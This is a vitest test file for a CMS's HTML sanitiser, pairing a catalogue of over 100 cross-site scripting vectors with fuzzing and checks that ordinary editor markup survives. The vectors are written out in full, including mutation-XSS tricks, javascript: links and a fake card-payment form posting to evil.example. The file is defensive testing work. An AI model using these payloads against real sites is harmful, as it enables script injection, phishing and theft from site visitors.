import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { PAGES } from '../../../../demo/content/pages.ts';
import { POSTS } from '../../../../demo/content/posts.ts';
import { REFERENCE_CARDS } from '../../../../demo/content/reference-cards.ts';
import { SEO_PAGES } from '../../../../demo/content/seo-pages.ts';
import { sanitisedHtml } from './sanitised-html.ts';

/** Everything that may come out, as a grammar: whatever does not fit it is markup we never meant to let through. */
const PLAIN_TAG =
  'p|h[234]|ul|ol|li|a|strong|em|b|i|blockquote|table|caption|thead|tbody|tfoot|tr|th|td|figure|figcaption';
const HARMLESS = new RegExp(
  `^(?:[^<>]|</?(?:${PLAIN_TAG})>|<(?:br|hr) />` +
    String.raw`|<t[hd](?: (?:col|row)span="[1-9]\d{0,3}"){1,2}>` +
    String.raw`|<a href="(?:/(?![/\\])[^"<>\s\\]*|mailto:[\w.+-]+@[\w.-]+|tel:\+?\d+)">` +
    String.raw`|<a href="https://[^"<>\s\\]*" rel="noopener noreferrer">` +
    String.raw`|<img src="/files/[\w./,=-]+"(?: alt="[^"<>]*")?(?: (?:width|height)="[1-9]\d{0,3}"){0,2} />` +
    ')*$',
  'u',
);

const VECTORS = [
  // Scripts.
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script/x>alert(1)</script>',
  '<script\n>alert(1)</script\n>',
  '<<script>alert(1);//<</script>',
  '<p>a</p><script>alert(1)',
  '<script>/* </p> */ alert(1) // </script >',
  '"><script>alert(1)</script>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><script xlink:href="data:,alert(1)"/></svg>',
  // Event handlers.
  '<img src=x onerror=alert(1)>',
  '<img src="/files/a.png" onerror="alert(1)">',
  '<img/src="/files/a.png"/onload=alert(1)>',
  '<p onclick="alert(1)">a</p>',
  '<p ONMOUSEOVER=alert(1)>a</p>',
  '<a href="/x" onfocus=alert(1) autofocus>a</a>',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>a</details>',
  '<video><source onerror="alert(1)"></video>',
  '<marquee onstart=alert(1)>a</marquee>',
  '<input autofocus onfocus=alert(1)>',
  '<td onmouseenter="alert(1)" colspan="2">a</td>',
  '<img src="/files/a.png" alt="&quot; onerror=&quot;alert(1)">',
  `<img src='/files/a.png' alt='" onerror="alert(1)'>`,
  // Links that run.
  '<a href="javascript:alert(1)">a</a>',
  '<a href="JaVaScRiPt:alert(1)">a</a>',
  '<a href=" javascript:alert(1)">a</a>',
  '<a href="java\tscript:alert(1)">a</a>',
  '<a href="java&#10;script:alert(1)">a</a>',
  '<a href="java&NewLine;script&colon;alert(1)">a</a>',
  '<a href="&#x6A;&#x61;&#x76;&#x61;script:alert(1)">a</a>',
  '<a href="&#0000106avascript:alert(1)">a</a>',
  '<a href="\u0001javascript:alert(1)">a</a>',
  '<a href="\u200bjavascript:alert(1)">a</a>',
  '<a href="/\u202etxt.exe">a</a>',
  '<a href="vbscript:msgbox(1)">a</a>',
  '<a href="data:text/html,<script>alert(1)</script>">a</a>',
  '<a href="DATA:text/html;base64,PHNjcmlwdD4=">a</a>',
  '<a href="blob:https://okoem.example/1">a</a>',
  '<a href="file:///etc/passwd">a</a>',
  '<a href="http://evil.example/">a</a>',
  '<a href="//evil.example/">a</a>',
  '<a href="/\\evil.example/">a</a>',
  '<a href="\\\\evil.example/">a</a>',
  '<a href="/\t/evil.example/">a</a>',
  '<a href="https:evil.example">a</a>',
  '<a href="https:\\\\evil.example">a</a>',
  '<a href="https://okoem.example@evil.example/">a</a>',
  '<a href="https://evil.example/&quot; onclick=&quot;alert(1)">a</a>',
  '<a href="mailto:a@b.example?subject=x&body=<script>">a</a>',
  '<a href="tel:javascript:alert(1)">a</a>',
  '<a href="/x" target="_blank" rel="opener" ping="https://evil.example">a</a>',
  '<a xlink:href="javascript:alert(1)" href="javascript:alert(1)">a</a>',
  // Pictures from elsewhere.
  '<img src="https://evil.example/pixel.gif">',
  '<img src="//evil.example/pixel.gif">',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<img src="javascript:alert(1)">',
  '<img src="/files/../api/v1/logout">',
  '<img src="/files//evil.example/a.png">',
  '<img src="/files/%2e%2e/x.png">',
  '<img srcset="https://evil.example/a.png 2x" src="/files/a.png">',
  '<picture><source srcset="https://evil.example/a.png"><img src="/files/a.png"></picture>',
  // Other worlds: SVG, MathML, styles, raw text.
  '<svg onload=alert(1)>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:alert(1)"><text>a</text></a></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<p style="background:url(javascript:alert(1))">a</p>',
  '<p style="position:fixed;inset:0">a</p>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>">',
  '<title><img title="</title><img src=x onerror=alert(1)>">',
  '<template><img src=x onerror=alert(1)></template>',
  '<noembed><img title="</noembed><img src=x onerror=alert(1)>">',
  '<plaintext><img src=x onerror=alert(1)>',
  '<select><option><style></option></select><img src=x onerror=alert(1)></style>',
  // Frames, forms and the document itself.
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe><img src=x onerror=alert(1)></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<form action="https://evil.example/"><input name=card><button>Оплатить</button></form>',
  '<div id="basket" class="popup" data-open="1">a</div>',
  '<a name="cookie" id="location">a</a>',
  // What is not closed, and what pretends to be closed.
  '<!-- <img src=x onerror=alert(1)>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!--[if IE]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<!DOCTYPE html [<!ENTITY x "<script>alert(1)</script>">]>&x;',
  '<img src="/files/a.png',
  '<a href="/x',
  '<p title=">" onclick="alert(1)">a</p>',
  '<p/onclick=alert(1)>a',
  '<p =">"<img src=x onerror=alert(1)>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&amp;lt;img src=x onerror=alert(1)&amp;gt;',
  '\u003cscript\u003ealert(1)\u003c/script\u003e',
  '<table><td><style></table><img src=x onerror=alert(1)></style>',
  '<p>'.repeat(500) + '<script>alert(1)</script>',
];

describe('sanitisedHtml', () => {
  it(`lets nothing but harmless markup through, whatever is tried (${VECTORS.length} ways) [CMS-004]`, () => {
    expect(VECTORS.length).toBeGreaterThanOrEqual(60);
    for (const vector of VECTORS) {
      expect(sanitisedHtml(vector), vector).toMatch(HARMLESS);
      expect(leftOpen(sanitisedHtml(vector)), vector).toEqual([]);
    }
  });

  it('lets nothing else through when attacks are cut and glued at random, and changes nothing the second time', () => {
    const piece = fc.oneof(
      fc.constantFrom(...VECTORS),
      fc.tuple(fc.constantFrom(...VECTORS), fc.nat(60)).map(([vector, cut]) => vector.slice(cut)),
      fc.constantFrom('<p>', '</p>', '<td>', '<a href="/x">', '</a>', '"', "'", '>', '<', '-->', '&', '</'),
      fc.string({ maxLength: 8 }),
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 6 }), (pieces) => {
        const clean = sanitisedHtml(pieces.join(''));
        expect(clean).toMatch(HARMLESS);
        expect(leftOpen(clean)).toEqual([]);
        expect(sanitisedHtml(clean)).toBe(clean);
      }),
      { numRuns: 1500 },
    );
  });

  it('leaves no paragraph in a paragraph, which a browser would read as three', () => {
    const broken = '<p><a href="/x<img srcset="https://evil.example/a.png 2x" src="/files/a.png"><p>';
    const clean = sanitisedHtml(broken);
    expect(sanitisedHtml(clean)).toBe(clean);
  });

  it('keeps what editors need', () => {
    const text =
      '<h2>Доставка</h2><p>Везём <strong>завтра</strong>, <em>до двери</em>.<br />Или <b>сами</b> <i>заберите</i>.</p>' +
      '<ul><li>курьер</li></ul><ol><li>склад</li></ol><blockquote>Быстро</blockquote><hr />' +
      '<table><caption>Цены</caption><thead><tr><th colspan="2">Город</th></tr></thead>' +
      '<tbody><tr><td>Тула</td><td rowspan="3">300 ₽</td></tr></tbody></table>' +
      '<figure><img src="/files/illustrations/dome/tone=white,seed=1.svg" alt="Камера" width="640" height="480" />' +
      '<figcaption>Камера</figcaption></figure>' +
      '<p><a href="/pages/delivery?x=1#y">Доставка</a> <a href="mailto:help@okoem.example">почта</a> ' +
      '<a href="tel:88000000000">телефон</a></p>';
    expect(sanitisedHtml(text)).toBe(text);
  });

  it('changes nothing of what the editors of the demo wrote', () => {
    const texts = [...PAGES, ...POSTS, ...REFERENCE_CARDS].map(({ html }) => html);
    for (const html of [...texts, ...SEO_PAGES.map(({ text }) => text)]) {
      expect(sanitisedHtml(html)).toBe(html);
    }
  });

  it('leaves the text of what it takes away, but not the insides of scripts and styles', () => {
    expect(sanitisedHtml('<div>один <span>два</span></div>')).toBe('один два');
    expect(sanitisedHtml('<a href="javascript:alert(1)">читать</a><p>дальше</p>')).toBe(
      'читать<p>дальше</p>',
    );
    expect(sanitisedHtml('<h1>Заголовок</h1><h6>Мелкий</h6>')).toBe('<h2>Заголовок</h2><h4>Мелкий</h4>');
    expect(sanitisedHtml('до<script>alert(1)</script><style>p{}</style> после')).toBe('до после');
  });

  it('does not let a site it leads to reach back', () => {
    expect(sanitisedHtml('<a href="https://пример.рф/a?b=1&amp;c=2" target="_blank">там</a>')).toBe(
      '<a href="https://пример.рф/a?b=1&amp;c=2" rel="noopener noreferrer">там</a>',
    );
  });
});

/** Tags that are not closed, or that close what they did not open: those would reach into the page around the text. */
function leftOpen(html: string): string[] {
  const open: string[] = [];
  for (const [, slash, tag] of html.matchAll(/<(\/?)([a-z\d]+)(?![^>]*\/>)[^>]*>/g)) {
    if (slash === '') open.push(tag!);
    else if (open.at(-1) === tag) open.pop();
    else open.push(`/${tag}`);
  }
  return open;
}
